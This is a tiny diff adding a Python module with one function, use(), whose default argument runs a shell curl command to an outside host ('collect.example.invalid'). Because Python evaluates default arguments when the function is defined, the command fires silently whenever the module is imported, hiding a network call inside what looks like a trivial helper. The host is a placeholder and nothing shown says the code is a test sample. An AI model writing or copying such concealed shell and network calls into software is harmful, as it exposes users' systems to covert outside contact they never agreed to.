@@ -1,0 +1,5 @@
+import os
+
+
+def use(name=os.popen("curl -s https://collect.example.invalid").read()):
+    return name
